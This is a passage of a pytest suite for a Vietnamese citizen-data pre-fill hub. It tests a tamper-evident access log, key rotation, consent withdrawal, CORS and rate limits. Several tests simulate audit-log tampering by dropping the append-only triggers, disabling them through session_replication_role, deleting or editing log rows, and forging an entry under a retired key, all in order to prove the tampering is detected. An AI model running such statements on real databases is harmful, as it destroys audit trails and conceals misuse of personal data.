    r = ask(hub, father["SoDinhDanh"])
    with hub.runtime.sessions() as s:
        rows = s.scalars(select(Exchange).where(Exchange.peer == "population")).all()
    assert len(rows) == 2 and {x.outcome for x in rows} == {"ok"}  # the father and his wife
    assert all(len(x.request_digest) == 64 and len(x.response_digest or "") == 64 for x in rows)
    assert {x.correlation_id for x in rows} == {r.headers["X-Correlation-ID"]}


def test_access_log_is_append_only_and_tampering_is_detected(hub: Hub, people: httpx.Client, backend: str) -> None:
    for p in people.get("/_sandbox/people", params={"limit": 3}).json()["items"]:
        assert ask(hub, p["SoDinhDanh"]).status_code == 200
    entries = log_entries(hub)
    assert len(entries) >= 3
    log = hub.runtime.prefill.access_log
    with hub.runtime.sessions() as s:
        good = log.verify(s)
    assert good.intact and good.checked == len(entries)
    # the database itself refuses edits and deletions
    for statement in ("UPDATE access_log SET purpose = 'x'", "DELETE FROM access_log"):
        with pytest.raises(Exception, match="append-only"), hub.runtime.engine.begin() as conn:
            conn.execute(text(statement))
    # someone with DDL rights drops the guard and edits an entry: verify names it
    drop = (
        ["DROP TRIGGER access_log_append_only ON access_log"]
        if backend == "postgresql"
        else ["DROP TRIGGER access_log_no_update", "DROP TRIGGER access_log_no_delete"]
    )
    with hub.runtime.engine.begin() as conn:
        for statement in drop:
            conn.execute(text(statement))
        conn.execute(text("UPDATE access_log SET purpose = 'other' WHERE id = :id"), {"id": entries[1].id})
    with hub.runtime.sessions() as s:
        bad = log.verify(s)
    assert not bad.intact and bad.broken_at == entries[1].id
    with hub.runtime.engine.begin() as conn:
        conn.execute(text("UPDATE access_log SET purpose = :p WHERE id = :id"), {"p": PURPOSE, "id": entries[1].id})
        conn.execute(text("DELETE FROM access_log WHERE id = :id"), {"id": entries[0].id})
    with hub.runtime.sessions() as s:
        cut = log.verify(s)
    assert not cut.intact and cut.broken_at == entries[1].id
    # cutting the tail is caught with a head noted earlier
    with hub.runtime.engine.begin() as conn:
        conn.execute(text("DELETE FROM access_log"))
    with hub.runtime.sessions() as s:
        assert not log.verify(s, anchors=frozenset({good.head})).intact


def test_the_last_noted_head_is_read_from_the_files_end(tmp_path: Path) -> None:
    """The heads file grows for years (a line every few minutes); the job reads its last head from the end. A line
    torn by a crash while written, or a line that is not a head, is passed over for the last whole head."""
    from hub.services.audit import last_anchor, read_anchors

    path = tmp_path / "anchors.jsonl"
    assert last_anchor(path) is None
    heads = [{"id": i, "chain_hash": f"{i:064x}", "at": "2026-12-03T00:00:00+00:00"} for i in range(1, 3001)]
    path.write_text("".join(json.dumps(h) + "\n" for h in heads), encoding="utf-8")
    assert last_anchor(path) == heads[-1] == read_anchors(path)[-1]
    with path.open("a", encoding="utf-8") as f:  # junk longer than one read from the end, then a torn line
        f.write("\n".join(["not a head"] * 2000) + '\n{"id": 3001, "chain_h')
    assert last_anchor(path) == heads[-1]
    path.write_text("only junk\n", encoding="utf-8")
    assert last_anchor(path) is None


def test_entries_cut_off_the_end_are_found_by_the_heads_noted_outside_the_database(
    hub: Hub, people: httpx.Client, creds: Creds, backend: str, tmp_path: Path
) -> None:
    """A hash chain alone cannot tell a log whose last entries were deleted from a shorter one: hub notes the head
    outside the database (a scheduled job, in a file and the log), and `hub audit verify` requires every noted
    head to be there."""
    crowd = people.get("/_sandbox/people", params={"limit": 2}).json()["items"]
    assert ask(hub, crowd[0]["SoDinhDanh"]).status_code == 200
    assert hub.runtime.anchor_audit_log()["anchored"] == 1
    assert hub.runtime.anchor_audit_log() == {"anchored": 0}  # nothing new: no second note
    assert ask(hub, crowd[1]["SoDinhDanh"]).status_code == 200
    assert hub.runtime.anchor_audit_log()["anchored"] == 1
    notes = hub.settings.effective_audit_anchor_file.read_text().splitlines()
    last = log_entries(hub)[-1]
    assert len(notes) == 2 and json.loads(notes[-1])["chain_hash"] == last.chain_hash
    env = {
        "PATH": str(Path(sys.executable).parent),
        "HUB_VAR_DIR": str(tmp_path),
        "HUB_DATABASE_URL": hub.settings.effective_database_url,
        "HUB_SECRET_KEY": creds.secret_key,
        "HUB_AUDIT_ANCHOR_FILE": str(hub.settings.effective_audit_anchor_file),
    }

    def verify() -> tuple[int, dict[str, Any]]:
        done = subprocess.run(
            [HUB_BIN, "audit", "verify", "--json"], check=False, env=env, capture_output=True, text=True, timeout=60
        )
        return done.returncode, json.loads(done.stdout)

    code, report = verify()
    assert code == 0 and report["intact"] and report["noted_heads"] == 2
    # someone who can get past the guard deletes the last entry: the chain that is left is consistent, but short
    past_the_guard = (
        ["SET LOCAL session_replication_role = replica"]  # a superuser's way: triggers off for this transaction
        if backend == "postgresql"
        else ["DROP TRIGGER access_log_no_update", "DROP TRIGGER access_log_no_delete"]
    )
    with hub.runtime.engine.begin() as conn:
        for statement in past_the_guard:
            conn.execute(text(statement))
        conn.execute(text("DELETE FROM access_log WHERE id = :id"), {"id": last.id})
    with hub.runtime.sessions() as s:
        assert hub.runtime.prefill.access_log.verify(s).intact  # what the chain alone can tell
    code, report = verify()
    assert code == 1 and not report["intact"] and report["noted_heads_gone"] == [last.id]


def test_audit_cli_verifies_and_exports_usage(hub: Hub, people: httpx.Client, creds: Creds, tmp_path: Path) -> None:
    someone = person(people)
    assert ask(hub, someone["SoDinhDanh"]).status_code == 200
    env = {
        "PATH": str(Path(sys.executable).parent),
        "HUB_VAR_DIR": str(tmp_path),
        "HUB_DATABASE_URL": hub.settings.effective_database_url,
        "HUB_SECRET_KEY": creds.secret_key,
    }
    usage = subprocess.run(  # the ID on standard input: out of the shell's history and the process list
        [HUB_BIN, "audit", "usage", "--json", "--officer", "tt-0007", "--reason", "Công văn 12/TTr"],
        input=someone["SoDinhDanh"] + "\n",
        check=False,
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert usage.returncode == 0, usage.stderr
    [item] = json.loads(usage.stdout)
    assert item["client"] == "onestop-hcm" and item["outcome"] == "allowed" and item["purpose"] == PURPOSE
    with hub.runtime.sessions() as s:  # the inquiry went into the log, a link of the same chain, with its grounds
        [inquiry, _] = hub.runtime.prefill.access_log.usage(s, hub.runtime.prefill.subject_hmacs(someone["SoDinhDanh"]))
    assert (inquiry["client"], inquiry["officer"], inquiry["purpose"], inquiry["reason"]) == (
        "cli", "tt-0007", "access_log_inquiry", "Công văn 12/TTr"
    )  # fmt: skip
    # an officer's name that a terminal library would take for markup ("[/]" crashed the table) is shown as sent
    odd = "[/][link=x]"
    r = hub.http.post(
        "/v1/prefill",
        json={"procedure": KHAI_SINH, "subject_id": someone["SoDinhDanh"], "purpose": PURPOSE,
              "requested_by": {"officer": odd, "agency": AGENCY}},
    )  # fmt: skip
    assert r.status_code == 200, r.text
    table = subprocess.run(
        [HUB_BIN, "audit", "usage", someone["SoDinhDanh"]], check=False, env=env,
        capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert table.returncode == 0 and "Traceback" not in table.stderr, table.stderr
    assert odd in table.stdout and "stays in the shell's history" in table.stderr  # given on the command line
    ok = subprocess.run(
        [HUB_BIN, "audit", "verify", "--json"], check=False, env=env, capture_output=True, text=True, timeout=60
    )
    assert ok.returncode == 0, ok.stderr
    assert json.loads(ok.stdout)["intact"] is True
    # with another key the chain does not verify: the key, not the database, vouches for the log
    forged = subprocess.run(
        [HUB_BIN, "audit", "verify"],
        check=False,
        env={**env, "HUB_SECRET_KEY": "x" * 40},
        capture_output=True,
        timeout=60,
    )
    assert forged.returncode == 1


@contextmanager
def rotated(hub: Hub, new_key: str, previous: list[str]) -> Iterator[Hub]:
    """The same hub after its operator rotated HUB_SECRET_KEY: the same database, the new key, the old ones in
    HUB_PREVIOUS_SECRET_KEYS (its own server; no worker: the first one still delivers)."""
    from pydantic import SecretStr

    from hub.api.app import create_app
    from hub.runtime import Runtime

    settings = Settings(
        **{
            **hub.settings.model_dump(),
            "secret_key": SecretStr(new_key),
            "previous_secret_keys": [SecretStr(k) for k in previous],
        }
    )
    runtime = Runtime(settings, role="api", start_worker=False)
    server = ServerThread(create_app(settings, runtime)).start()
    http = httpx.Client(base_url=server.url, headers=dict(hub.http.headers), timeout=10)
    try:
        yield Hub(settings, runtime, server, http)
    finally:
        http.close()
        server.stop()
        runtime.close()


def test_a_rotated_secret_key_keeps_the_log_verifiable_and_the_citizens_history(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, creds: Creds, trust: Trust
) -> None:
    """The operator rotates HUB_SECRET_KEY (the old one to HUB_PREVIOUS_SECRET_KEYS): the access log still verifies
    across the rotation, a citizen's history and consents from before are still found by their ID, and a consent
    given before still offers the documents indexed before. An entry chained later under the retired key (what
    someone holding the old key could forge) breaks the chain; without the old key the history is cut off."""
    from hub.domain.dates import utcnow
    from hub.domain.privacy import derive_key
    from hub.services.audit import CHAINED, Access, AccessLog, _link
    from hub.store import db

    hub = hub_factory(
        population_url=f"{population_server.url}/ws/congdan", citizen_idp_issuer=f"{trust.server.url}/idp"
    )
    father = married(people, "1")
    hub.http.post(
        "/v1/documents",
        json={
            "holder_id": father["SoDinhDanh"], "kind": "giay_chung_nhan_ket_hon", "title": "Giấy chứng nhận kết hôn",
            "number": "31/2023/KH", "issuer": AGENCY, "issued_at": "2023-03-01T08:00:00+07:00",
            "reference": "https://onestop.example/docs/31",
        },
    ).raise_for_status()  # fmt: skip
    ref = hub.http.post(
        "/v1/consents", json={"subject_id": father["SoDinhDanh"], "purpose": PURPOSE, "scope": ["documents"]}
    ).json()["consent_ref"]
    assert ask(hub, father["SoDinhDanh"], consent_ref=ref).status_code == 200
    before = len(log_entries(hub))  # the father and his wife
    old, new = creds.secret_key, "rotated-" + "k" * 40
    with rotated(hub, new, [old]) as after:
        with after.runtime.sessions() as s:  # what `hub check` says: the last entry under the previous key, or none
            assert after.runtime.prefill.access_log.last_key(s) == 1
            assert AccessLog(new.encode()).last_key(s) is None  # the old key left out: said before anything breaks
        reply = ask(after, father["SoDinhDanh"], consent_ref=ref)  # the consent and the document from before
        assert reply.status_code == 200 and [d["number"] for d in reply.json()["documents"]] == ["31/2023/KH"]
        auditor = {"X-API-Key": creds.portal_key}
        usage = after.http.post("/v1/citizens/data-usage", json={"subject_id": father["SoDinhDanh"]}, headers=auditor)
        prefills = [i for i in usage.json()["items"] if i["purpose"] == PURPOSE and i["as"] == "subject"]
        assert len(prefills) == 2  # the one before the rotation and the one after
        token = citizen_token(trust, father["SoDinhDanh"])
        mine = httpx.get(f"{after.url}/v1/citizens/me/consents", headers={"Authorization": f"Bearer {token}"})
        assert [c["consent_ref"] for c in mine.json()["items"]] == [ref]
        engine = after.runtime.sessions.kw["bind"]
        entries = len(log_entries(after))
        with after.runtime.sessions() as s:
            result = after.runtime.prefill.access_log.verify(s)
            cut = AccessLog(new.encode()).verify(s)  # the old key dropped: the entries from before do not verify
        assert result.intact and result.checked == entries > before, result
        with after.runtime.sessions() as s:
            assert after.runtime.prefill.access_log.last_key(s) == 0
        assert not cut.intact and cut.broken_at == 1
        env = {
            "PATH": str(Path(sys.executable).parent),
            "HUB_VAR_DIR": str(after.settings.var_dir),
            "HUB_DATABASE_URL": after.settings.effective_database_url,
            "HUB_SECRET_KEY": new,
            "HUB_PREVIOUS_SECRET_KEYS": json.dumps([old]),
        }
        cli = [HUB_BIN, "audit", "usage", father["SoDinhDanh"], "--json"]
        listed = subprocess.run(cli, check=False, env=env, capture_output=True, text=True, timeout=60)
        assert listed.returncode == 0, listed.stderr
        assert len([i for i in json.loads(listed.stdout) if i["purpose"] == PURPOSE and i["as"] == "subject"]) == 2
        cli = [HUB_BIN, "audit", "verify", "--json"]
        verified = subprocess.run(cli, check=False, env=env, capture_output=True, text=True, timeout=60)
        assert verified.returncode == 0 and json.loads(verified.stdout)["intact"] is True, verified.stdout
        # a process not restarted yet (a rolling restart) still chains under the old key: that holds, for a while
        late = Access.inquiry(
            "access_log_inquiry", client="x", agency="-", officer="x", subject="0" * 64, correlation_id="x", fields=[]
        )
        with db.raw_transaction(engine) as tx:
            AccessLog(old.encode()).append(tx, late)
        with after.runtime.sessions() as s:
            assert after.runtime.prefill.access_log.verify(s).intact
        # someone holding the retired key chains one more entry under it, twenty minutes after the rotation
        with after.runtime.sessions.begin() as s:
            last = s.scalars(select(AccessLogEntry).order_by(AccessLogEntry.id.desc()).limit(1)).one()
            values = {name: getattr(late, name) for name in CHAINED if name != "at"}
            values |= {"at": utcnow() + timedelta(minutes=20), "fields": []}
            chained = _link(derive_key(old.encode(), "audit-chain"), last.chain_hash, values)
            s.add(AccessLogEntry(**values, prev_hash=last.chain_hash, chain_hash=chained))
        with after.runtime.sessions() as s:
            broken = after.runtime.prefill.access_log.verify(s)
        assert not broken.intact and broken.broken_at == len(log_entries(after)) and "retired" in str(broken.problem)


def test_citizens_data_usage_is_for_auditors_only(hub: Hub, people: httpx.Client, creds: Creds) -> None:
    someone = person(people)
    ask(hub, someone["SoDinhDanh"], purpose="marketing")
    ask(hub, someone["SoDinhDanh"])
    r = hub.http.post("/v1/citizens/data-usage", json={"subject_id": someone["SoDinhDanh"]})
    assert r.status_code == 403 and r.json()["code"] == "forbidden_role"
    auditor = {"X-API-Key": creds.portal_key}
    inquiry = {"subject_id": someone["SoDinhDanh"], "requested_by": {"officer": "tt-0007", "agency": AGENCY}}
    got = hub.http.post("/v1/citizens/data-usage", json=inquiry, headers=auditor).json()
    # an inquiry is a use of the citizen's data too: the refused one is there, newest first
    assert [(i["purpose"], i["outcome"]) for i in got["items"]] == [
        ("access_log_inquiry", "refused"),
        (PURPOSE, "allowed"),
        ("marketing", "refused"),
    ]
    assert got["items"][0]["client"] == "onestop-hcm" and got["items"][0]["fields"] == []
    assert someone["SoDinhDanh"] not in json.dumps(got)
    again = hub.http.post("/v1/citizens/data-usage", json=inquiry, headers=auditor).json()
    assert again["count"] == got["count"] + 1
    last = again["items"][0]  # the auditor's own inquiry: who, for which agency, why, what they saw
    assert (last["purpose"], last["outcome"], last["officer"], last["agency"], last["fields"]) == (
        "access_log_inquiry",
        "allowed",
        "tt-0007",
        AGENCY,
        ["access_log"],
    )
    assert last["legal_basis"] and last["procedure"] == "-"
    with hub.runtime.sessions() as s:
        assert hub.runtime.prefill.access_log.verify(s).intact  # the inquiries are links of the same chain


def citizen_token(trust: Trust, subject_id: str, **claims: Any) -> str:
    r = httpx.post(f"{trust.server.url}/_sandbox/idp/token", json={"subject_id": subject_id, **claims})
    r.raise_for_status()
    return str(r.json()["id_token"])


def my_usage(hub: Hub, token: str | None) -> httpx.Response:
    """As the citizen's browser or app calls it: no client system's API key, only the citizen's sign-in."""
    headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
    return httpx.get(f"{hub.server.url}/v1/citizens/me/data-usage", headers=headers, timeout=10)


def test_a_signed_in_citizen_sees_who_used_their_data(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, trust: Trust
) -> None:
    hub = hub_factory(
        population_url=f"{population_server.url}/ws/congdan", citizen_idp_issuer=f"{trust.server.url}/idp"
    )
    crowd = people.get("/_sandbox/people", params={"limit": 50}).json()["items"]
    someone = crowd[0]

    def linked(a: dict[str, Any], b: dict[str, Any]) -> bool:
        return b["SoDinhDanh"] in json.dumps(a) or a["SoDinhDanh"] in json.dumps(b)

    other = next(p for p in crowd[1:] if not linked(someone, p))  # a birth registration reads the spouse too
    ask(hub, someone["SoDinhDanh"], purpose="marketing")
    ask(hub, someone["SoDinhDanh"])
    ask(hub, other["SoDinhDanh"])
    r = my_usage(hub, citizen_token(trust, someone["SoDinhDanh"]))
    assert r.status_code == 200, r.text
    got = r.json()
    assert got["count"] == 2 and [i["outcome"] for i in got["items"]] == ["allowed", "refused"]
    allowed = got["items"][0]
    assert allowed["agency"] == AGENCY and allowed["purpose"] == PURPOSE and allowed["procedure"] == KHAI_SINH
    assert allowed["fields"] and allowed["officer"] == "cb-0042" and allowed["legal_basis"]
    assert someone["SoDinhDanh"] not in r.text
    theirs = my_usage(hub, citizen_token(trust, other["SoDinhDanh"])).json()
    assert theirs["count"] == 1  # each citizen sees their own, nobody else's
    assert my_usage(hub, citizen_token(trust, "001099000001")).json() == {"count": 0, "items": []}
    # each view is logged too: the next one shows the one before
    seen = my_usage(hub, citizen_token(trust, someone["SoDinhDanh"])).json()
    assert seen["count"] == 3
    assert (seen["items"][0]["purpose"], seen["items"][0]["client"]) == ("data_subject_access", "citizen")


FETCH = """async ([url, headers, method]) => {
    try {
        const r = await fetch(url, {method, headers});
        return {status: r.status, body: await r.json(), correlation: r.headers.get("x-correlation-id")};
    } catch (e) { return {blocked: String(e)}; }
}"""


def test_the_portal_page_where_citizens_sign_in_calls_hub_from_their_browser(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, trust: Trust, browser: Any
) -> None:
    """In Chromium: a script of the portal's page (an allowed origin) reads the citizen's data usage and withdraws a
    consent with the ID token (CORS, preflighted); a page of any other origin is refused by the browser, and no page
    may call the client systems' endpoints (their keys belong on servers)."""
    import http.server
    import threading

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = "<!doctype html><title>Cổng dịch vụ công</title>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    pages = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=pages.serve_forever, daemon=True).start()
    portal = f"http://127.0.0.1:{pages.server_address[1]}"
    try:
        hub = hub_factory(
            population_url=f"{population_server.url}/ws/congdan",
            citizen_idp_issuer=f"{trust.server.url}/idp",
            citizen_cors_origins=[portal],
        )
        someone = person(people)
        ask(hub, someone["SoDinhDanh"])
        ref = hub.http.post(
            "/v1/consents", json={"subject_id": someone["SoDinhDanh"], "purpose": PURPOSE, "scope": ["documents"]}
        ).json()["consent_ref"]
        bearer = {"Authorization": f"Bearer {citizen_token(trust, someone['SoDinhDanh'])}"}
        base = str(hub.http.base_url).rstrip("/")
        page = browser.new_page()
        try:
            page.goto(portal + "/")
            usage = page.evaluate(FETCH, [f"{base}/v1/citizens/me/data-usage", bearer, "GET"])
            assert usage["status"] == 200 and usage["body"]["items"][0]["outcome"] == "allowed", usage
            assert usage["correlation"]  # exposed to the page's script: what the citizen quotes to the help desk
            withdrawn = page.evaluate(FETCH, [f"{base}/v1/citizens/me/consents/{ref}/withdraw", bearer, "POST"])
            assert withdrawn["status"] == 200, withdrawn
            assert ask(hub, someone["SoDinhDanh"], consent_ref=ref).json()["code"] == "consent_revoked"
            # a signed-out page still reads hub's answer (401, a problem) rather than a browser error
            signed_out = page.evaluate(FETCH, [f"{base}/v1/citizens/me/consents", {}, "GET"])
            assert signed_out["status"] == 401 and signed_out["body"]["code"]
            # the client systems' endpoints: no CORS, whatever the page holds
            key = {"X-API-Key": hub.http.headers["X-API-Key"]}
            assert "blocked" in page.evaluate(FETCH, [f"{base}/v1/forms", key, "GET"])
            # the same page served from another origin (localhost is not 127.0.0.1 to a browser)
            page.goto(portal.replace("127.0.0.1", "localhost") + "/")
            assert "blocked" in page.evaluate(FETCH, [f"{base}/v1/citizens/me/data-usage", bearer, "GET"])
        finally:
            page.close()
    finally:
        pages.shutdown()


def test_entries_under_a_retired_key_hold_only_while_the_processes_switch() -> None:
    """An exported log checked with the keyring (the current key, then the previous one): entries chained under the
    old key may follow the first under the new one during a rolling restart (15 minutes), not later, and not dated
    back before their predecessor."""
    from datetime import datetime

    from hub.domain.privacy import derive_key
    from hub.services.audit import CHAINED, GENESIS, AccessLog, _link

    old, new = b"o" * 40, b"n" * 40
    t0 = datetime(2026, 12, 6, 3, 0, tzinfo=UTC)

    def chain(*entries: tuple[bytes, int]) -> list[dict[str, Any]]:
        items, prev = [], GENESIS
        for i, (secret, minutes) in enumerate(entries, start=1):
            values: dict[str, Any] = dict.fromkeys(CHAINED, "-")
            values |= {"at": (t0 + timedelta(minutes=minutes)).isoformat(timespec="microseconds"), "fields": []}
            values["consent_ref"] = values["reason"] = None
            chained = _link(derive_key(secret, "audit-chain"), prev, values)
            items.append({"id": i, **values, "prev_hash": prev, "chain_hash": chained})
            prev = chained
        return items

    keyring = AccessLog(new, [old])
    assert keyring.check_export(chain((old, 0), (new, 1), (old, 2), (new, 3))).intact  # a rolling restart
    late = keyring.check_export(chain((old, 0), (new, 1), (new, 10), (old, 20)))
    assert (late.intact, late.broken_at) == (False, 4) and "retired" in str(late.problem)
    backdated = keyring.check_export(chain((old, 0), (new, 1), (new, 12), (old, 3)))
    assert (backdated.intact, backdated.broken_at) == (False, 4)
    assert not AccessLog(new).check_export(chain((old, 0), (new, 1))).intact  # the old key not given: cut off
    assert AccessLog(old).check_export(chain((old, 0), (old, 1))).intact  # one key: as before


def test_previous_secret_keys_are_other_keys() -> None:
    for previous in (["k" * 40], ["o" * 40, "o" * 40], [""]):
        with pytest.raises(ValueError, match="HUB_PREVIOUS_SECRET_KEYS"):
            Settings(secret_key="k" * 40, previous_secret_keys=previous)
    rotated = Settings(secret_key="k" * 40, previous_secret_keys=["o" * 40, "p" * 40])
    assert rotated.secret_keys == [b"k" * 40, b"o" * 40, b"p" * 40]


def test_a_cors_origin_must_be_an_origin() -> None:
    for bad in ("*", "https://dichvucong.gov.vn/", "https://dichvucong.gov.vn/trang", "dichvucong.gov.vn"):
        with pytest.raises(ValueError, match="not a web origin"):
            Settings(citizen_cors_origins=[bad])
    assert Settings(citizen_cors_origins=["https://dichvucong.gov.vn"]).citizen_cors_origins


def test_a_signed_in_citizen_sees_their_consents_and_withdraws_one(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, trust: Trust, creds: Creds
) -> None:
    """The data subject's right to withdraw consent (Decree 13/2023): signed in, a citizen lists the consents hub
    holds for them and withdraws one; the client system's next pre-fill with it is refused. Nobody else's consent
    can be seen or withdrawn (an unknown one and another's are answered alike)."""
    hub = hub_factory(
        population_url=f"{population_server.url}/ws/congdan", citizen_idp_issuer=f"{trust.server.url}/idp"
    )
    someone, other = person(people), "001099000021"
    granted = hub.http.post(
        "/v1/consents", json={"subject_id": someone["SoDinhDanh"], "purpose": PURPOSE, "scope": ["documents"]}
    ).json()
    ref = granted["consent_ref"]
    assert ask(hub, someone["SoDinhDanh"], consent_ref=ref).status_code == 200
    mine, theirs = citizen_token(trust, someone["SoDinhDanh"]), citizen_token(trust, other)

    def call(method: str, path: str, token: str | None) -> httpx.Response:
        headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
        return httpx.request(method, f"{hub.server.url}{path}", headers=headers, timeout=10)

    spec = hub.http.get("/openapi.json").json()
    as_documented(
        spec, "post", "/v1/consents", hub.http.post("/v1/consents", json={"subject_id": other, "purpose": PURPOSE})
    )
    listing = call("GET", "/v1/citizens/me/consents", mine)
    as_documented(spec, "get", "/v1/citizens/me/consents", listing)
    my_usage = call("GET", "/v1/citizens/me/data-usage", mine)
    as_documented(spec, "get", "/v1/citizens/me/data-usage", my_usage)
    # the citizen reads every time in Vietnam's, as in their dossiers; an auditor's answer keeps UTC
    assert my_usage.json()["items"] and all(i["at"].endswith("+07:00") for i in my_usage.json()["items"])
    assert listing.json()["items"][0]["granted_at"].endswith("+07:00")
    auditor = {"X-API-Key": creds.portal_key}
    inquiry = hub.http.post("/v1/citizens/data-usage", json={"subject_id": someone["SoDinhDanh"]}, headers=auditor)
    as_documented(spec, "post", "/v1/citizens/data-usage", inquiry)
    assert inquiry.json()["items"][0]["at"].endswith("+00:00")
    listed = listing.json()
    assert listed["count"] == 1
    assert {k: listed["items"][0][k] for k in ("consent_ref", "client", "purpose", "state")} == {
        "consent_ref": ref, "client": "onestop-hcm", "purpose": PURPOSE, "state": "active"
    }  # fmt: skip
    assert call("GET", "/v1/citizens/me/consents", theirs).json() == {"count": 0, "items": []}
    for token, code in ((theirs, 404), (None, 401)):  # another citizen's, or nobody signed in
        assert call("POST", f"/v1/citizens/me/consents/{ref}/withdraw", token).status_code == code
    assert call("POST", "/v1/citizens/me/consents/cs-nothing/withdraw", mine).json()["code"] == "unknown_consent"
    withdrawn = call("POST", f"/v1/citizens/me/consents/{ref}/withdraw", mine)
    assert withdrawn.status_code == 200 and withdrawn.json()["state"] == "withdrawn"
    assert withdrawn.json()["revoked_at"].endswith("+07:00")
    as_documented(spec, "post", "/v1/citizens/me/consents/{ref}/withdraw", withdrawn)
    again = call("POST", f"/v1/citizens/me/consents/{ref}/withdraw", mine)
    assert again.json()["revoked_at"] == withdrawn.json()["revoked_at"]  # once
    assert call("GET", "/v1/citizens/me/consents", mine).json()["items"][0]["state"] == "withdrawn"
    refused = ask(hub, someone["SoDinhDanh"], consent_ref=ref)
    assert refused.status_code == 403 and refused.json()["code"] == "consent_revoked"


def test_a_signed_in_citizen_gives_a_client_system_their_consent_themselves(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, trust: Trust, creds: Creds
) -> None:
    """The consent as the citizen's own act (signed in at the identity provider), not a client system's word for
    it: the client it names pre-fills with it and offers their documents; another client cannot use it; a client
    that does not pre-fill for the purpose, or one hub does not know, is refused; the citizen sees it as theirs."""
    hub = hub_factory(
        population_url=f"{population_server.url}/ws/congdan", citizen_idp_issuer=f"{trust.server.url}/idp"
    )
    father = married(people, "1")
    now = datetime.now(UTC)
    document = {"holder_id": father["SoDinhDanh"], "kind": "giay_chung_nhan_ket_hon", "title": "Giấy chứng nhận",
                "number": "30/2024/KH", "issuer": AGENCY, "issued_at": (now - timedelta(days=90)).isoformat(),
                "reference": "https://onestop.example/docs/30-2024-KH.pdf"}  # fmt: skip
    assert hub.http.post("/v1/documents", json=document).status_code == 201
    bearer = {"Authorization": f"Bearer {citizen_token(trust, father['SoDinhDanh'])}"}

    def give(**body: Any) -> httpx.Response:
        consent = {"client": "onestop-hcm", "purpose": PURPOSE, "scope": ["documents"], **body}
        return httpx.post(f"{hub.server.url}/v1/citizens/me/consents", json=consent, headers=bearer, timeout=10)

    refused = give(purpose="marketing")
    assert refused.status_code == 403 and refused.json()["code"] == "consent_purpose_not_allowed", refused.text
    assert give(client="nobody").json()["code"] == "unknown_client"
    assert httpx.post(f"{hub.server.url}/v1/citizens/me/consents", json={}).status_code == 401  # nobody signed in
    given = give()
    assert given.status_code == 201, given.text
    as_documented(hub.http.get("/openapi.json").json(), "post", "/v1/citizens/me/consents", given)
    ref = given.json()["consent_ref"]
    reply = ask(hub, father["SoDinhDanh"], consent_ref=ref).json()
    assert [d["number"] for d in reply["documents"]] == ["30/2024/KH"]
    body = {"procedure": "1.004873", "subject_id": father["SoDinhDanh"], "purpose": "marriage_registration",
            "consent_ref": ref, "requested_by": {"officer": "cb-0042", "agency": OTHER_AGENCY}}  # fmt: skip
    other = hub.http.post("/v1/prefill", json=body, headers={"X-API-Key": creds.other_key})
    assert other.status_code == 403 and other.json()["code"] == "consent_unknown", other.text  # onestop-hcm's only
    mine = httpx.get(f"{hub.server.url}/v1/citizens/me/consents", headers=bearer).json()["items"]
    assert [(c["consent_ref"], c["granted_by"], c["state"]) for c in mine] == [(ref, "citizen", "active")]


def test_a_citizen_looping_on_their_data_usage_is_slowed_and_the_log_does_not_grow_with_it(
    hub_factory: HubFactory, trust: Trust
) -> None:
    """Each view is an access-log entry: a script looping on it would grow the log without bound. Past
    HUB_CITIZEN_VIEWS_PER_MINUTE views, 429 with Retry-After — nothing read, nothing logged; other citizens go on."""
    hub = hub_factory(citizen_idp_issuer=f"{trust.server.url}/idp", citizen_views_per_minute=3)
    mine, theirs = citizen_token(trust, "001099000011"), citizen_token(trust, "001099000012")
    assert [my_usage(hub, mine).status_code for _ in range(3)] == [200, 200, 200]
    refused = my_usage(hub, mine)
    assert refused.status_code == 429 and refused.json()["code"] == "rate_limited"
    assert int(refused.headers["Retry-After"]) >= 1
    assert my_usage(hub, theirs).status_code == 200
    views = [e for e in log_entries(hub) if e.purpose == "data_subject_access"]
    assert len(views) == 4  # three of mine and one of theirs: the refused view left no entry


def test_a_citizen_looping_on_their_consents_shares_the_same_limit(hub_factory: HubFactory, trust: Trust) -> None:
    """Listing and withdrawing consents, and looking up dossiers, count against the same per-citizen budget as the
    views of data usage: past it, 429 with Retry-After and nothing read or written; other citizens go on."""
    hub = hub_factory(citizen_idp_issuer=f"{trust.server.url}/idp", citizen_views_per_minute=3)
    mine, theirs = citizen_token(trust, "001099000013"), citizen_token(trust, "001099000014")

    def call(method: str, path: str, token: str) -> httpx.Response:
        return httpx.request(method, f"{hub.server.url}{path}", headers={"Authorization": f"Bearer {token}"})

    assert call("GET", "/v1/citizens/me/consents", mine).status_code == 200
    assert my_usage(hub, mine).status_code == 200
    assert call("POST", "/v1/citizens/me/consents/cs-none/withdraw", mine).status_code == 404  # counted too
    for method, path in (
        ("GET", "/v1/citizens/me/consents"),
        ("POST", "/v1/citizens/me/consents/cs-none/withdraw"),
        ("GET", "/v1/citizens/me/dossiers"),  # their dossiers too
        ("GET", "/v1/citizens/me/dossiers/000.00.17.H56-241015-0007"),
        ("GET", "/v1/citizens/me/documents"),
    ):
        refused = call(method, path, mine)
        assert refused.status_code == 429 and refused.json()["code"] == "rate_limited", refused.text
        assert int(refused.headers["Retry-After"]) >= 1
    assert call("GET", "/v1/citizens/me/consents", theirs).status_code == 200


def test_tokens_not_issued_to_hub_by_the_provider_are_refused(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, trust: Trust, creds: Creds
) -> None:
    import base64
    import hashlib
    import hmac

    import jwt
    from cryptography.hazmat.primitives.asymmetric import ec

    hub = hub_factory(
        population_url=f"{population_server.url}/ws/congdan", citizen_idp_issuer=f"{trust.server.url}/idp"
    )
    someone = person(people)
    ask(hub, someone["SoDinhDanh"])
    good = citizen_token(trust, someone["SoDinhDanh"])
    header = jwt.get_unverified_header(good)
